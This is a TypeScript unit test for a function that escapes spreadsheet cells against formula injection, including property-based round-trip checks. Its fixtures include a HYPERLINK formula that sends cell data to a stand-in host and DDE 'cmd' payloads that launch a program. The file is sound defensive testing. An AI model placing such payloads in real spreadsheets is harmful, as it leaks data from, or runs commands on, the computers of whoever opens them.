import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { escapeFormula } from '../../src/domain/spreadsheet-formulas.ts';

describe('escapeFormula', () => {
  it('puts a quote before a cell a spreadsheet would read as a formula', () => {
    for (const cell of [
      '=HYPERLINK("https://evil.example/?d="&A2,"Details")',
      "=cmd|' /C calc'!A0",
      '+SUM(1,2)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '=',
      '-',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
    ]) {
      assert.equal(escapeFormula(cell), `'${cell}`, JSON.stringify(cell));
    }
  });

  it('keeps ordinary text, and text with those characters further in, as written', () => {
    for (const cell of ['', 'Spaghetti n.5, 500 g', 'Barilla', 'a=b', '5 - 3', 'pasta@home', "'nduja", "l'=x", ' =1+1', '5', '3,5', 'Sottozero -18 °C']) {
      assert.equal(escapeFormula(cell), cell, JSON.stringify(cell));
    }
  });

  it('keeps a signed plain number (a temperature, a tolerance) as written', () => {
    for (const cell of ['-5', '+3', '-18.5', '+3,5', '-0', '-1000']) {
      assert.equal(escapeFormula(cell), cell, cell);
    }
  });

  it('escapes a signed cell that is more than a number', () => {
    for (const cell of ['-5 °C', '-5+A1', '-1e3', '-1.000,5', '+3,5\n=1+1', '-5\n', '- 5', '-.5', '+39 06 1234567']) {
      assert.equal(escapeFormula(cell), `'${cell}`, JSON.stringify(cell));
    }
  });

  it('gives a value that starts with quotes before a formula character one quote more, so the escape can be undone', () => {
    for (const [cell, written] of [
      ["'=already text", "''=already text"],
      ["'-5", "''-5"],
      ["''+1", "'''+1"],
    ]) {
      assert.equal(escapeFormula(cell ?? ''), written);
    }
  });

  it('is undone by the rule docs/api.md gives readers: drop the first quote of a cell whose quotes are followed by a formula character', () => {
    const readBack = (cell: string) => (/^'+[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) ? cell.slice(1) : cell);
    const pieces = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '＝', '5', ',', '.', 'a', ' ', '\n');
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
        const cell = parts.join('');
        assert.equal(readBack(escapeFormula(cell)), cell);
      }),
      { numRuns: 2000 },
    );
  });
});
